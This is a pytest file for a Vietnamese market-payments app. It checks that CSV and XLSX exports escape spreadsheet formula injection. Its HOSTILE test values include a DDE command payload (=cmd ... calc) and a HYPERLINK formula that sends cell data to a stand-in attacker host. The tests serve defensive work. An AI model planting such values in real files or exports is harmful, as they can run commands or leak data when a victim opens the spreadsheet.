"""Every CSV/XLSX export writes hostile text as text: nothing a spreadsheet would run.

Names, stalls, notes, references and void reasons come from people (forms, imports,
the API); a value starting with = + - @ (or a tab / carriage return) must come out with
a leading apostrophe, and XLSX cells must never be formulas. The values are round-tripped:
stored through the real entry points where there is one, then read back from each export.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable
from typing import Any

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from chopay.exports import FORMULA_STARTS, safe_cell, safe_row
from tests.factories import MarketFactory, TransactionFactory, UserFactory, VendorFactory

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
    "\t=1+1",
    "\r=1+1",
)
NUMBER = re.compile(r"^-?\d+(?:\.\d+)?$")
VN = dt.timezone(dt.timedelta(hours=7))


def assert_inert(values: Iterable[Any]) -> None:
    """No text value a spreadsheet would read as a formula (negative numbers are fine)."""
    for value in values:
        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
            assert NUMBER.match(value), f"formula-like cell exported unescaped: {value!r}"


def csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_cells(body: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(body))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells exported"
    return [c.value for c in cells]


@given(st.text(max_size=40))
def test_safe_cell_never_leaves_a_formula_start_and_keeps_the_text(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or (cell == "'" + text and text.startswith(FORMULA_STARTS))


def test_safe_cell_leaves_numbers_dates_and_none_alone() -> None:
    day = dt.date(2026, 11, 21)
    assert safe_row([-5, 12.5, day, None, "Chợ Đại Từ"]) == [-5, 12.5, day, None, "Chợ Đại Từ"]


def _hostile_ledger(db: Any) -> tuple[Any, list[Any]]:
    """A market whose vendors and payments carry every hostile value somewhere."""
    market = MarketFactory()
    board = UserFactory.board(market)
    vendors = []
    for n, text in enumerate(HOSTILE):
        vendor = VendorFactory(market=market, full_name=text, stall=text[:30])
        vendors.append(vendor)
        TransactionFactory(
            vendor_obj=vendor,
            note=text,
            external_ref=f"{'=+-@'[n % 4]}{n}+1",
            voided_at=dt.datetime.now(dt.UTC) if n % 2 else None,
            void_reason=text if n % 2 else None,
        )
    db.session.commit()
    return board, vendors


def test_transactions_csv_quotes_hostile_names_notes_refs_and_reasons(
    client: Any, auth: Any, db: Any
) -> None:
    board, _ = _hostile_ledger(db)
    api = client.get(
        "/api/v1/transactions", query_string={"format": "csv"}, headers=auth.token_headers(board)
    )
    assert api.status_code == 200 and api.mimetype == "text/csv"
    table = csv_cells(api.get_data())
    header, rows = table[0], table[1:]
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert_inert(row)
    by_column = {name: [r[header.index(name)] for r in rows] for name in header}
    assert sorted(by_column["vendor_name"]) == sorted("'" + t for t in HOSTILE)
    assert sorted(by_column["note"]) == sorted("'" + t for t in HOSTILE)
    assert all(ref.startswith("'") for ref in by_column["external_ref"])
    assert {r for r in by_column["void_reason"] if r} == {"'" + t for t in HOSTILE[1::2]}

    auth.login(board)
    page = client.get("/transactions/export.csv")
    assert page.status_code == 200
    assert csv_cells(page.get_data()) == table


def test_a_formula_imported_or_reported_comes_back_escaped(client: Any, auth: Any, db: Any) -> None:
    """Round trip through the real entry points: vendor-list import, then payment report."""
    market = MarketFactory()
    admin = UserFactory()
    headers = auth.token_headers(admin)
    db.session.commit()
    listing = "Họ và tên,Số quầy\n" + "".join(
        f'"{text.replace(chr(34), chr(34) * 2)}",Q-{n}\n' for n, text in enumerate(HOSTILE[:5])
    )
    resp = client.post(
        f"/api/v1/markets/{market.id}/vendors/import",
        data={"file": (io.BytesIO(listing.encode()), "list.csv")},
        headers=headers,
    )
    assert resp.status_code == 200, resp.get_json()
    report = resp.get_json()
    assert report["created"] == 5, report
    vendor_ids = [row["vendor_id"] for row in report["rows"]]
    # Imported vendors are pending: payments may already be reported for them.
    when = (dt.datetime.now(VN) - dt.timedelta(minutes=5)).isoformat()
    payments = [
        {
            "vendor_id": vendor_id,
            "amount": 10_000 + n,
            "occurred_at": when,
            "method": "vietqr",
            "external_ref": f"=rt{n}",
            "note": HOSTILE[n],
        }
        for n, vendor_id in enumerate(vendor_ids)
    ]
    posted = client.post("/api/v1/transactions", json=payments, headers=headers)
    assert posted.status_code == 200 and posted.get_json()["created"] == 5, posted.get_json()

    table = csv_cells(
        client.get(
            "/api/v1/transactions",
            query_string={"format": "csv", "market": market.id},
            headers=headers,
        ).get_data()
    )
    header, rows = table[0], table[1:]
    for row in rows:
        assert_inert(row)
    names = {r[header.index("vendor_name")] for r in rows}
    notes = {r[header.index("note")] for r in rows}
    assert names == {"'" + t for t in HOSTILE[:5]}
    assert notes == {"'" + t for t in HOSTILE[:5]}


def test_report_csv_and_xlsx_quote_hostile_market_names(client: Any, auth: Any, db: Any) -> None:
    for text in HOSTILE:
        MarketFactory(name=text, stall_count=10)
    admin = UserFactory()
    headers = auth.token_headers(admin)
    params = {"scheme": "legacy", "level": "market", "unit": "171"}
    params |= {"from": "2026-10-01", "to": "2026-10-31"}
    body = client.get("/api/v1/reports/adoption.csv", query_string=params, headers=headers)
    assert body.status_code == 200
    table = csv_cells(body.get_data())
    for row in table:
        assert_inert(row)
    names = {row[1] for row in table}
    assert {"'" + t for t in HOSTILE} <= names

    book = client.get("/api/v1/reports/adoption.xlsx", query_string=params, headers=headers)
    assert book.status_code == 200
    values = xlsx_cells(book.get_data())
    assert_inert(values)
    # (XML turns the carriage return into a line feed; the apostrophe is what matters)
    assert {"'" + t.replace("\r", "\n") for t in HOSTILE} <= set(values)


def test_open_data_csv_quotes_hostile_market_names(client: Any, db: Any) -> None:
    for text in HOSTILE:
        MarketFactory(name=text, stall_count=10)
    db.session.commit()
    resp = client.get(
        "/open-data/adoption.csv",
        query_string={"scheme": "legacy", "level": "market", "unit": "171", "month": "2026-10"},
    )
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    table = csv_cells(resp.get_data())
    for row in table:
        assert_inert(row)
    names = {row[1] for row in table}
    assert {"'" + t for t in HOSTILE} <= names


def test_vendor_import_template_has_no_formulas(client: Any, auth: Any, db: Any) -> None:
    auth.login(UserFactory())
    resp = client.get("/vendors/import-template.xlsx")
    assert resp.status_code == 200
    values = xlsx_cells(resp.get_data())
    assert_inert(values)
    assert "Họ và tên" in values
